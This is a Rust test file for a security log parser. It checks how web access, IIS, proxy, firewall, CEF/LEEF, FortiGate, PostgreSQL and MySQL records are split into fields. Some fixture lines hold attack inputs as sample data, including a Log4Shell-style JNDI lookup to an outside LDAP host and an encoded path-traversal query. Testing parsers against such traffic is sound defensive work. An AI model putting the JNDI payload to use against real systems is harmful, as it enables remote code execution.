//! What every test of the line readers uses, and web, proxy, firewall and database logs.
//!
//! Samples are written here after the vendors' documentation, with addresses reserved for it.

use std::collections::BTreeMap;
use std::ops::ControlFlow;

use palisade_host::json::{DialectSet, Dialects};
use palisade_host::lines::Kind;
use palisade_host::{Context, Format, Piece, Scratch, read, sniff, split};
use palisade_model::{
    Batch, Catalogue, FieldSet, Fields, FieldsBuilder, Origin, Problem, Projection, SourceId, Time,
};

pub const STREAMS: [(&str, &str); 8] = [
    ("appliances.toml", include_str!("../../../../../knowledge/fields/appliances.toml")),
    ("applications.toml", include_str!("../../../../../knowledge/fields/applications.toml")),
    ("cloud.toml", include_str!("../../../../../knowledge/fields/cloud.toml")),
    ("defender.toml", include_str!("../../../../../knowledge/fields/defender.toml")),
    ("imports.toml", include_str!("../../../../../knowledge/fields/imports.toml")),
    ("linux.toml", include_str!("../../../../../knowledge/fields/linux.toml")),
    ("macos.toml", include_str!("../../../../../knowledge/fields/macos.toml")),
    ("windows.toml", include_str!("../../../../../knowledge/fields/windows.toml")),
];

/// The shipped knowledge, records kept whole.
pub struct Shipped {
    pub fields: Fields,
    pub catalogue: Catalogue,
    pub projection: Projection,
    pub dialects: Dialects,
    pub zone: Option<jiff::tz::TimeZone>,
    pub as_of: Option<Time>,
}

impl Shipped {
    /// As the pipeline closes it, with these names wanted of every shape and a mapping if there is one.
    pub fn with(names: &[&str], mapping: Option<&str>, whole: bool) -> Shipped {
        let mut fields = FieldsBuilder::new();
        let mut catalogue = Catalogue::default();
        for (file, text) in STREAMS {
            catalogue.add(file, text, &mut fields).unwrap();
        }
        let mut set = DialectSet::new();
        if let Some(text) = mapping {
            set.add_mapping("mapping.toml", text).unwrap();
        }
        set.add("dialects.toml", crate::json::DIALECTS).unwrap();
        for name in set.names() {
            fields.intern(name);
        }
        let mut wanted = FieldSet::new();
        for name in names {
            wanted.insert(fields.intern(name).unwrap());
        }
        let fields = fields.close();
        let dialects = set.close(&fields).unwrap();
        let mut projection = Projection::new(&catalogue);
        for (id, shape) in catalogue.shapes() {
            let mut all = wanted.clone();
            shape.derive.iter().for_each(|d| all.insert(d.field));
            projection.want(id, &all);
            projection.want_text(id);
        }
        if whole {
            projection.keep_everything(&fields);
        }
        Shipped { fields, catalogue, projection, dialects, zone: None, as_of: None }
    }

    pub fn new() -> Shipped {
        Shipped::with(&[], None, true)
    }

    pub fn context(&self) -> Context<'_> {
        Context {
            fields: &self.fields,
            catalogue: &self.catalogue,
            projection: &self.projection,
            dialects: &self.dialects,
            zone: self.zone.as_ref(),
            as_of: self.as_of,
        }
    }

    /// Sniffs, splits and reads.
    pub fn read(&self, bytes: &[u8]) -> Seen {
        let format = sniff(&bytes[..bytes.len().min(palisade_host::SNIFF_BYTES)]).expect("a known format");
        self.read_as(format, bytes)
    }

    pub fn read_as(&self, format: Format, bytes: &[u8]) -> Seen {
        let mut seen = Seen { format: Some(format), ..Seen::default() };
        let origin = Origin::file("test.log");
        let mut stream = bytes;
        let mut pieces: Vec<Piece> = Vec::new();
        seen.problems = split(format, &origin, &mut stream, &mut |piece| {
            pieces.push(piece);
            ControlFlow::Continue(())
        });
        seen.pieces = pieces.len();
        let mut scratch = Scratch::default();
        for piece in pieces {
            let more = read(piece, self.context(), SourceId(7), &origin, &mut scratch, &mut |batch| {
                for row in 0..batch.len() {
                    let h = batch.header(row);
                    let mut fields: BTreeMap<String, Vec<String>> = BTreeMap::new();
                    batch.every(row, &mut |f, v| {
                        let name = if f.is_local() {
                            batch.local_name(f).to_owned()
                        } else {
                            self.fields.name(f).to_owned()
                        };
                        fields.entry(name).or_default().push(v.text().unwrap_or("").to_owned());
                    });
                    // What rules see beside: derived fields.
                    batch.each(row, &mut |f, v| {
                        let name = self.fields.name(f).to_owned();
                        fields.entry(name).or_insert_with(|| vec![v.text().unwrap_or("").to_owned()]);
                    });
                    let shape = self.catalogue.shape_of(h.shape);
                    seen.rows.push(Row {
                        record: h.record,
                        offset: h.offset,
                        shape: shape.name.clone(),
                        categories: shape.categories.clone(),
                        time: h.time.map(|t| t.to_string()),
                        text: batch.text(row).text.to_owned(),
                        fields,
                    });
                }
                batch.into_buffers()
            });
            seen.problems.extend(more);
        }
        seen
    }
}

/// What came of a text.
#[derive(Default, Debug)]
pub struct Seen {
    pub format: Option<Format>,
    pub rows: Vec<Row>,
    pub problems: Vec<Problem>,
    pub pieces: usize,
}

#[derive(Debug, Clone, PartialEq)]
pub struct Row {
    pub record: u64,
    pub offset: u64,
    pub shape: String,
    pub categories: Vec<String>,
    pub time: Option<String>,
    pub text: String,
    pub fields: BTreeMap<String, Vec<String>>,
}

impl Row {
    pub fn get(&self, name: &str) -> &str {
        self.fields.get(name).and_then(|v| v.first()).map_or("", |v| v)
    }

    pub fn all(&self, name: &str) -> Vec<&str> {
        self.fields.get(name).map_or(Vec::new(), |v| v.iter().map(String::as_str).collect())
    }

    /// Every pair must be there.
    pub fn has(&self, pairs: &[(&str, &str)]) {
        for (name, value) in pairs {
            assert!(
                self.all(name).contains(value),
                "{name} is {:?}, not {value:?}, in {:#?}",
                self.all(name),
                self
            );
        }
    }
}

impl Seen {
    pub fn kind(&self) -> Kind {
        match self.format {
            Some(Format::Lines(kind)) => kind,
            other => panic!("{other:?} is no text log"),
        }
    }

    pub fn said(&self) -> String {
        self.problems.iter().map(|p| format!("{} x{}: {}\n", p.code.name(), p.count, p.message)).collect()
    }
}

const ACCESS: &str = concat!(
    r#"203.0.113.7 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326"#,
    "\n",
    r#"203.0.113.7 - - [10/Oct/2000:13:55:37 -0700] "GET /cgi-bin/test.cgi?a=1&b=%2e%2e%2f HTTP/1.1" 404 - "http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)""#,
    "\n",
    r#"www.example.org:443 2001:db8::1 - - [10/Oct/2000:13:55:38 +0000] "POST /login HTTP/2.0" 302 0 "-" "curl/8.0""#,
    "\n",
    r#"203.0.113.9 - - [10/Oct/2000:13:55:39 +0000] "GET /?x=${jndi:ldap://198.51.100.2/a} HTTP/1.1" 200 5 "-" "a \"quoted\" agent" "198.51.100.4, 10.0.0.1" 0.005"#,
    "\n",
    r#"203.0.113.9 - - [10/Oct/2000:13:55:40 +0000] "\x16\x03\x01\x02" 400 226 "-" "-""#,
    "\n",
);

#[test]
fn access_logs_in_every_usual_form() {
    let seen = Shipped::new().read(ACCESS.as_bytes());
    assert_eq!(seen.kind(), Kind::Access);
    assert_eq!(seen.said(), "");
    assert_eq!(seen.rows.len(), 5);
    seen.rows[0].has(&[
        ("c-ip", "203.0.113.7"),
        ("cs-username", "frank"),
        ("cs-method", "GET"),
        ("cs-uri-stem", "/apache_pb.gif"),
        ("cs-version", "HTTP/1.0"),
        ("sc-status", "200"),
        ("sc-bytes", "2326"),
    ]);
    assert_eq!(seen.rows[0].time.as_deref(), Some("2000-10-10T20:55:36.000000Z"));
    assert_eq!(seen.rows[0].categories, ["webserver"]);
    seen.rows[1].has(&[
        ("cs-uri-query", "a=1&b=%2e%2e%2f"),
        ("webserver_uri.cs-uri-query", "/cgi-bin/test.cgi?a=1&b=%2e%2e%2f"),
        ("cs-referer", "http://www.example.com/start.html"),
        ("cs-user-agent", "Mozilla/4.08 [en] (Win98; I ;Nav)"),
    ]);
    assert_eq!(seen.rows[1].get("sc-bytes"), "");
    seen.rows[2].has(&[("cs-host", "www.example.org"), ("s-port", "443"), ("c-ip", "2001:db8::1")]);
    seen.rows[3].has(&[
        ("cs-user-agent", "a \"quoted\" agent"),
        ("x-forwarded-for", "198.51.100.4, 10.0.0.1"),
        ("extra", "0.005"),
        ("cs-uri-query", "x=${jndi:ldap://198.51.100.2/a}"),
    ]);
    assert_eq!(seen.rows[4].get("cs-uri-stem"), "\u{16}\u{3}\u{1}\u{2}");
    // Citations: the line, and the byte where it begins.
    for (i, row) in seen.rows.iter().enumerate() {
        assert_eq!(row.record, i as u64 + 1);
        let line = ACCESS.lines().nth(i).unwrap();
        assert_eq!(ACCESS[row.offset as usize..].lines().next(), Some(line));
        assert!(row.text.starts_with(line));
    }
}

#[test]
fn a_line_that_is_none_is_a_problem_and_the_rest_is_read() {
    let text = format!("{ACCESS}this is no access log\n{ACCESS}");
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.rows.len(), 10);
    assert_eq!(seen.said(), "syntax x1: a line is not of a web access log and was left out\n");
    assert_eq!(seen.rows[9].record, 11);
}

#[test]
fn iis_changes_its_fields_in_the_middle() {
    let text = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2024-03-01 00:00:03\r\n\
        #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n\
        2024-03-01 00:00:03 192.0.2.10 GET /owa/auth.owa x=1 443 EXAMPLE\\bob 203.0.113.5 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15\r\n\
        #Fields: date time c-ip cs-method cs-uri-stem sc-status\r\n\
        2024-03-01 00:00:04 203.0.113.6 POST /ecp/y.js 500\r\n\
        2024-03-01 00:00:05 203.0.113.6 POST\r\n";
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.kind(), Kind::W3c);
    assert_eq!(seen.rows.len(), 2);
    seen.rows[0].has(&[
        ("cs-user-agent", "Mozilla/5.0 (Windows NT 10.0)"),
        ("webserver_uri.cs-uri-query", "/owa/auth.owa?x=1"),
        ("cs-username", "EXAMPLE\\bob"),
        ("sc-status", "200"),
    ]);
    assert_eq!(seen.rows[0].time.as_deref(), Some("2024-03-01T00:00:03.000000Z"));
    seen.rows[1].has(&[("cs-uri-stem", "/ecp/y.js"), ("sc-status", "500"), ("c-ip", "203.0.113.6")]);
    assert_eq!(seen.rows[1].record, 7);
    assert!(seen.said().contains("not as many values"), "{}", seen.said());
}

#[test]
fn a_client_cannot_hide_its_request_behind_a_quote() {
    const FIELDS: &str =
        "#Fields: date time c-ip cs-method cs-uri-stem cs(User-Agent) cs(Referer) sc-status\n";
    let iis = format!("#Software: Microsoft Internet Information Services 10.0\n{FIELDS}");
    let blue = format!("#Software: SGOS 6.7.4.1\n{FIELDS}");
    let line = |agent: &str, referer: &str| {
        format!("2024-03-01 00:00:04 203.0.113.6 POST /ecp/y.js {agent} {referer} 500\n")
    };
    for (head, agent, referer, wanted) in [
        (&iis, "\"x", "-", ["\"x", ""]),
        (&iis, "\"x", "y\"", ["\"x", "y\""]),
        (&iis, "\"x\"", "\"", ["\"x\"", "\""]),
        // Who wrote it is not known: quotes hold if the columns come out, and else are text.
        (&FIELDS.to_owned(), "\"x", "-", ["\"x", ""]),
        (&FIELDS.to_owned(), "\"x", "y\"", ["\"x", "y\""]),
        (&FIELDS.to_owned(), "\"x\"y", "\"a b\"", ["\"x\"y", "a b"]),
        (&blue, "\"a b\"", "\"c\"", ["a b", "c"]),
        (&blue, "\"a\"b\"", "-", ["\"a\"b\"", ""]),
    ] {
        let text = format!("{head}{0}{1}{0}", line("agent", "-"), line(agent, referer));
        let seen = Shipped::new().read(text.as_bytes());
        assert_eq!((seen.rows.len(), seen.said().as_str()), (3, ""), "{text}");
        assert_eq!([seen.rows[1].get("cs-user-agent"), seen.rows[1].get("cs-referer")], wanted, "{text}");
        seen.rows[1].has(&[("cs-uri-stem", "/ecp/y.js"), ("sc-status", "500"), ("c-ip", "203.0.113.6")]);
    }
    // Where no reading fits, what stands before the quote is sure, and the rest is one value.
    let text = format!("{blue}{0}{0}{1}", line("agent", "-"), line("\"a\" b\"", "-"));
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.rows.len(), 3);
    assert!(seen.said().starts_with("syntax x1: a line's quotes do not agree"), "{}", seen.said());
    seen.rows[2].has(&[("cs-uri-stem", "/ecp/y.js"), ("cs-user-agent", "\"a\" b\" - 500")]);
}

#[test]
fn a_proxy_and_a_firewall_in_w3c_form() {
    let proxy = "#Software: SGOS 6.7.4.1\n#Version: 1.0\n\
        #Fields: date time time-taken c-ip cs-username sc-filter-result cs-categories cs(Referer) sc-status s-action cs-method cs-uri-scheme cs-host cs-uri-port cs-uri-path cs-uri-query cs(User-Agent)\n\
        2024-03-01 10:00:00 12 10.1.1.1 alice OBSERVED \"Technology/Internet;News\" - 200 TCP_MISS GET http news.example.com 80 /a/b.php ?id=1 \"Mozilla/5.0 (X11)\"\n";
    let seen = Shipped::new().read(proxy.as_bytes());
    assert_eq!(seen.rows.len(), 1, "{}", seen.said());
    assert_eq!(seen.rows[0].categories, ["proxy"]);
    seen.rows[0].has(&[
        ("cs-uri", "http://news.example.com/a/b.php?id=1"),
        ("cs-categories", "Technology/Internet;News"),
        ("cs-user-agent", "Mozilla/5.0 (X11)"),
    ]);
    let firewall = "#Version: 1.5\n#Software: Microsoft Windows Firewall\n#Time Format: Local\n\
        #Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path\n\n\
        2024-03-01 10:00:00 DROP TCP 203.0.113.9 192.0.2.4 50111 3389 52 S 123 0 8192 - - - RECEIVE\n";
    let mut house = Shipped::new();
    house.zone = Some(jiff::tz::TimeZone::fixed(jiff::tz::offset(2)));
    let seen = house.read(firewall.as_bytes());
    assert_eq!(seen.rows[0].categories, ["firewall"]);
    seen.rows[0].has(&[("dst-port", "3389"), ("src-ip", "203.0.113.9"), ("action", "DROP")]);
    assert_eq!(seen.rows[0].time.as_deref(), Some("2024-03-01T08:00:00.000000Z"));
}

#[test]
fn error_logs_of_apache_and_nginx() {
    let apache = "[Fri Sep 09 10:42:29.902022 2011] [core:error] [pid 35708:tid 4328636416] [client 203.0.113.15:4711] AH00128: File does not exist: /usr/local/apache2/htdocs/favicon.ico\n\
        [Wed Oct 11 14:32:52 2000] [error] [client 198.51.100.1] client denied by server configuration: /export/home\n";
    let mut house = Shipped::new();
    let seen = house.read(apache.as_bytes());
    assert_eq!(seen.kind(), Kind::ErrorLog);
    assert_eq!(seen.rows.len(), 2);
    assert_eq!(seen.rows[0].time, None);
    assert!(seen.said().starts_with("no_zone x2"), "{}", seen.said());
    house.zone = Some(jiff::tz::TimeZone::UTC);
    let seen = house.read(apache.as_bytes());
    assert_eq!(seen.rows[0].time.as_deref(), Some("2011-09-09T10:42:29.902022Z"));
    seen.rows[0].has(&[
        ("module", "core"),
        ("level", "error"),
        ("pid", "35708"),
        ("c-ip", "203.0.113.15"),
        ("c-port", "4711"),
        ("code", "AH00128"),
    ]);
    seen.rows[1].has(&[("level", "error"), ("c-ip", "198.51.100.1")]);
    let nginx = "2023/10/01 12:00:00 [error] 1234#5678: *90 open() \"/usr/share/nginx/html/x, client: y\" failed (2: No such file or directory), client: 203.0.113.4, server: www.example.org, request: \"GET /x?y=1 HTTP/1.1\", host: \"www.example.org\", referrer: \"https://example.net/\"\n\
        2023/10/01 12:00:01 [notice] 1#1: start worker processes\n";
    let seen = house.read(nginx.as_bytes());
    assert_eq!(seen.rows.len(), 2, "{}", seen.said());
    seen.rows[0].has(&[
        ("level", "error"),
        ("pid", "1234"),
        ("tid", "5678"),
        ("connection", "90"),
        ("c-ip", "203.0.113.4"),
        ("cs-method", "GET"),
        ("cs-uri-stem", "/x"),
        ("cs-host", "www.example.org"),
        ("cs-referer", "https://example.net/"),
    ]);
}

#[test]
fn squid_natively() {
    let text = "1286536308.779    180 192.0.2.224 TCP_MISS/200 411 GET http://api.example.com:8080/v1/x?k=v bob HIER_DIRECT/198.51.100.9 application/json\n\
        1286536309.000  1200 192.0.2.225 TCP_TUNNEL/200 9121 CONNECT mail.example.com:443 - HIER_DIRECT/198.51.100.7 -\n";
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.kind(), Kind::Squid);
    assert_eq!(seen.said(), "");
    seen.rows[0].has(&[
        ("cs-uri", "http://api.example.com:8080/v1/x?k=v"),
        ("cs-host", "api.example.com"),
        ("cs-uri-port", "8080"),
        ("cs-uri-query", "k=v"),
        ("cs-username", "bob"),
        ("sc-status", "200"),
        ("s-action", "TCP_MISS"),
    ]);
    assert_eq!(seen.rows[0].time.as_deref(), Some("2010-10-08T11:11:48.779000Z"));
    seen.rows[1].has(&[("cs-method", "CONNECT"), ("cs-host", "mail.example.com"), ("cs-uri-port", "443")]);
    assert_eq!(seen.rows[1].categories, ["proxy"]);
}

#[test]
fn cef_and_leef() {
    let text = concat!(
        r"CEF:0|Security|threat\|manager|1.0|100|worm successfully stopped|10|src=10.0.0.1 dst=2.1.2.2 spt=1232 msg=a message with a \= sign and\nline rt=1700000000000 cs1Label=Policy cs1=Block all",
        "\n",
        "LEEF:1.0|Microsoft|MSExchange|4.0 SP1|15345|src=192.0.2.0\tdst=172.50.123.1\tsev=5\tcat=anomaly\tusrName=joe.black\n",
        "LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=10.0.1.8^dst=10.0.0.5^sev=5^url=https://example.com/?a=b\n",
    );
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.kind(), Kind::Cef);
    assert_eq!(seen.said(), "");
    seen.rows[0].has(&[
        ("deviceProduct", "threat|manager"),
        ("name", "worm successfully stopped"),
        ("severity", "10"),
        ("src", "10.0.0.1"),
        ("msg", "a message with a = sign and\nline"),
        ("cs1", "Block all"),
        ("Policy", "Block all"),
    ]);
    assert_eq!(seen.rows[0].time.as_deref(), Some("2023-11-14T22:13:20.000000Z"));
    seen.rows[1].has(&[("deviceEventClassId", "15345"), ("usrName", "joe.black"), ("cat", "anomaly")]);
    seen.rows[2].has(&[("dst", "10.0.0.5"), ("url", "https://example.com/?a=b")]);
}

/// What a rule of this category reads of a record.
fn ruled(house: &Shipped, row: &Row, category: &str, field: &str) -> String {
    let source = palisade_model::Logsource { category: Some(category.into()), ..Default::default() };
    let id = house.catalogue.shape_named(&row.shape).unwrap();
    let shape = house.catalogue.shape_of(id);
    assert!(shape.binds(&source), "{} is not of {category}", row.shape);
    row.get(shape.native_name(&source, field)).to_owned()
}

#[test]
fn rules_for_firewalls_and_proxies_read_cef_leef_and_pairs() {
    let lines = [
        "CEF:0|Vendor|Wall|1|100|connection|3|src=203.0.113.9 spt=40000 dst=192.0.2.4 dpt=3389 proto=TCP act=deny",
        "LEEF:1.0|Vendor|Wall|1|100|src=203.0.113.9\tsrcPort=40000\tdst=192.0.2.4\tdstPort=3389\tproto=TCP\taction=deny",
        "time=2024-03-01T10:00:00Z src=203.0.113.9 spt=40000 dst=192.0.2.4 dpt=3389 proto=TCP act=deny",
        "time=2024-03-01T10:00:00Z src_ip=203.0.113.9 src_port=40000 dst_ip=192.0.2.4 dst_port=3389 protocol=TCP log_subtype=deny",
    ];
    let wanted = [
        ("src_ip", "203.0.113.9"),
        ("src_port", "40000"),
        ("dst_ip", "192.0.2.4"),
        ("dst_port", "3389"),
        ("action", "deny"),
        ("protocol", "TCP"),
    ];
    let house = Shipped::new();
    for line in lines {
        for text in [format!("{line}\n"), format!("<13>2024-03-01T10:00:00Z fw1 {line}\n")] {
            let seen = house.read(text.as_bytes());
            // Behind a head of syslog, pairs are read if they begin as FortiGate's do.
            if text.starts_with('<') && !line.contains("EF:") {
                continue;
            }
            assert_eq!(seen.rows[0].categories, ["firewall"], "{text}");
            for (field, value) in wanted {
                assert_eq!(ruled(&house, &seen.rows[0], "firewall", field), value, "{field} of {text}");
            }
        }
    }
    let lines = [
        "CEF:0|Vendor|Gate|1|1|request|3|src=192.0.2.4 request=http://a.example/x.exe?y=1 requestMethod=GET requestClientApplication=evil/1.0 dhost=a.example act=allow",
        "LEEF:2.0|Vendor|Gate|1|1|^|src=192.0.2.4^url=http://a.example/x.exe?y=1^method=GET^userAgent=evil/1.0^domain=a.example^action=allow",
        "time=2024-03-01T10:00:00Z src=192.0.2.4 url=\"http://a.example/x.exe?y=1\" method=GET user_agent=evil/1.0 host=a.example action=allow",
    ];
    for line in lines {
        let seen = house.read(format!("{line}\n").as_bytes());
        for (field, value) in [
            ("c-ip", "192.0.2.4"),
            ("c-uri", "http://a.example/x.exe?y=1"),
            ("cs-method", "GET"),
            ("c-useragent", "evil/1.0"),
            ("cs-host", "a.example"),
            ("action", "allow"),
        ] {
            assert_eq!(ruled(&house, &seen.rows[0], "proxy", field), value, "{field} of {line}");
        }
    }
    // What is of neither stays without a category.
    let seen = house.read(b"CEF:0|V|P|1|7|logon|5|suser=bob outcome=failure msg=src\\=1 dst\\=2\n");
    assert!(seen.rows[0].categories.is_empty());
}

#[test]
fn fortigate_with_and_without_syslog_around() {
    let record = r#"date=2019-05-10 time=11:37:47 logid="0000000013" type="traffic" subtype="forward" level="notice" vd="vdom1" eventtime=1557513467369913239 srcip=10.1.100.11 srcport=58012 dstip=203.0.113.85 dstport=80 action="close" policyid=1 devname="FG T" devid="FGT60E1234567890""#;
    for text in [
        format!("{record}\n{record}\n"),
        format!("<189>{record}\n<189>{record}\n"),
        format!("May 10 11:37:47 fw1 {record}\n"),
    ] {
        let seen = Shipped::new().read(text.as_bytes());
        let row = &seen.rows[0];
        assert_eq!(row.categories, ["firewall"], "{:?}", seen.kind());
        row.has(&[("srcip", "10.1.100.11"), ("dstport", "80"), ("action", "close"), ("devname", "FG T")]);
        assert_eq!(row.time.as_deref(), Some("2019-05-10T18:37:47.369913Z"));
    }
}

#[test]
fn postgres_in_three_forms() {
    let text = "2023-10-01 12:00:00.123 UTC [1234] alice@shop LOG:  statement: SELECT *\n\tFROM voters\n\tWHERE id = 7\n\
        2023-10-01 12:00:01.000 UTC [1234] alice@shop LOG:  AUDIT: SESSION,1,1,READ,SELECT,TABLE,public.voters,\"select a, b from voters\",<none>\n\
        2023-10-01 12:00:02.000 UTC [99] LOG:  connection received: host=203.0.113.4 port=53211\n\
        2023-10-01 12:00:03.000 UTC [99] postgres@postgres FATAL:  password authentication failed for user \"postgres\"\n\
        2023-10-01 12:00:04 CET [7]: [3-1] user=bob,db=shop,app=psql,client=198.51.100.9 ERROR:  syntax error at or near \"x\"\n";
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.kind(), Kind::Postgres);
    assert_eq!(seen.rows.len(), 5, "{}", seen.said());
    seen.rows[0].has(&[
        ("user", "alice"),
        ("dbname", "shop"),
        ("pid", "1234"),
        ("error_severity", "LOG"),
        ("statement", "SELECT *\n\tFROM voters\n\tWHERE id = 7"),
    ]);
    assert_eq!(seen.rows[1].record, 4);
    seen.rows[1].has(&[
        ("command", "SELECT"),
        ("object_name", "public.voters"),
        ("statement", "select a, b from voters"),
    ]);
    seen.rows[2].has(&[("remote_host", "203.0.113.4"), ("remote_port", "53211")]);
    seen.rows[3].has(&[("user", "postgres"), ("error_severity", "FATAL")]);
    seen.rows[4].has(&[
        ("user", "bob"),
        ("dbname", "shop"),
        ("application_name", "psql"),
        ("remote_host", "198.51.100.9"),
    ]);
    assert_eq!(seen.rows[4].time, None, "CET is no zone that a text can be trusted with");
    assert_eq!(seen.rows[0].categories, ["database"]);

    let csv = "2023-10-01 12:00:00.123 UTC,\"alice\",\"shop\",1234,\"203.0.113.4:53211\",65195f80.4d2,1,\"SELECT\",2023-10-01 11:59:44 UTC,3/12,0,LOG,00000,\"statement: select \"\"x\"\",\n 1\",,,,,,,,,\"psql\",\"client backend\",,0\n";
    let seen = Shipped::new().read(csv.repeat(3).as_bytes());
    assert_eq!(seen.kind(), Kind::PostgresCsv);
    assert_eq!(seen.rows.len(), 3, "{}", seen.said());
    seen.rows[1].has(&[
        ("user", "alice"),
        ("remote_host", "203.0.113.4"),
        ("remote_port", "53211"),
        ("statement", "select \"x\",\n 1"),
        ("application_name", "psql"),
    ]);
    assert_eq!(seen.rows[1].record, 3);
    assert_eq!(seen.rows[1].time.as_deref(), Some("2023-10-01T12:00:00.123000Z"));
    assert_eq!(seen.rows[1].offset as usize, csv.len());

    let json = "{\"timestamp\":\"2023-10-01 12:00:00.123 UTC\",\"user\":\"alice\",\"dbname\":\"shop\",\"pid\":1234,\"remote_host\":\"203.0.113.4\",\"session_id\":\"65195f80.4d2\",\"line_num\":1,\"error_severity\":\"ERROR\",\"message\":\"relation does not exist\",\"backend_type\":\"client backend\"}\n";
    let seen = Shipped::new().read(json.as_bytes());
    assert_eq!(seen.rows[0].categories, ["database"]);
    seen.rows[0].has(&[("user", "alice"), ("message", "relation does not exist")]);
}

#[test]
fn mysql_in_four_forms() {
    let general = "/usr/sbin/mysqld, Version: 8.0.34 (MySQL Community Server - GPL). started with:\nTcp port: 3306  Unix socket: /var/run/mysqld/mysqld.sock\nTime                 Id Command    Argument\n\
        2023-10-01T12:00:00.123456Z\t    8 Connect\troot@localhost on shop using Socket\n\
        2023-10-01T12:00:01.123456Z\t    8 Query\tselect *\nfrom users\n\
        2023-10-01T12:00:02.123456Z\t    9 Connect\tAccess denied for user 'app'@'203.0.113.7' (using password: YES)\n\
        2023-10-01T12:00:03.123456Z\t    8 Quit\t\n";
    let seen = Shipped::new().read(general.as_bytes());
    assert_eq!(seen.kind(), Kind::MysqlGeneral);
    assert_eq!((seen.rows.len(), seen.said().as_str()), (4, ""));
    seen.rows[0].has(&[
        ("user", "root"),
        ("remote_host", "localhost"),
        ("dbname", "shop"),
        ("command", "Connect"),
    ]);
    seen.rows[1].has(&[("statement", "select *\nfrom users"), ("connection_id", "8")]);
    seen.rows[2].has(&[("user", "app"), ("remote_host", "203.0.113.7")]);
    assert_eq!(seen.rows[3].record, 8);

    let new = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<AUDIT>\n <AUDIT_RECORD>\n  <TIMESTAMP>2019-10-03T14:06:33 UTC</TIMESTAMP>\n  <RECORD_ID>1_2019-10-03T14:06:33</RECORD_ID>\n  <NAME>Query</NAME>\n  <CONNECTION_ID>5</CONNECTION_ID>\n  <USER>root[root] @ localhost [127.0.0.1]</USER>\n  <HOST>localhost</HOST>\n  <IP>127.0.0.1</IP>\n  <SQLTEXT>DROP TABLE t1 -- &lt;x&gt; &amp; y</SQLTEXT>\n </AUDIT_RECORD>\n</AUDIT>\n";
    let seen = Shipped::new().read(new.as_bytes());
    assert_eq!(seen.kind(), Kind::MysqlAudit);
    assert_eq!(seen.rows.len(), 1);
    assert_eq!(seen.rows[0].record, 3);
    assert_eq!(seen.rows[0].time.as_deref(), Some("2019-10-03T14:06:33.000000Z"));
    seen.rows[0].has(&[
        ("statement", "DROP TABLE t1 -- <x> & y"),
        ("remote_host", "127.0.0.1"),
        ("command", "Query"),
    ]);

    let old = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<AUDIT>\n  <AUDIT_RECORD\n    TIMESTAMP=\"2019-10-03T14:25:24 UTC\"\n    RECORD_ID=\"6_2019\"\n    NAME=\"Query\"\n    CONNECTION_ID=\"4\"\n    STATUS=\"0\"\n    USER=\"root\"\n    SQLTEXT=\"SELECT '&gt;' > 1\"/>\n</AUDIT>\n";
    let seen = Shipped::new().read(old.as_bytes());
    seen.rows[0].has(&[("statement", "SELECT '>' > 1"), ("user", "root"), ("connection_id", "4")]);

    let json = "[\n{ \"timestamp\": \"2019-10-03 14:06:33\", \"id\": 0, \"class\": \"general\", \"event\": \"status\", \"connection_id\": 5, \"account\": { \"user\": \"root\", \"host\": \"localhost\" }, \"login\": { \"user\": \"root\", \"ip\": \"::1\" }, \"general_data\": { \"command\": \"Query\", \"sql_command\": \"show_variables\", \"query\": \"SHOW VARIABLES\", \"status\": 0 } }\n]\n";
    let seen = Shipped::new().read(json.as_bytes());
    assert_eq!(seen.rows[0].shape, "/mysql", "{:?}", seen.rows[0]);
    seen.rows[0].has(&[("statement", "SHOW VARIABLES"), ("user", "root")]);
}
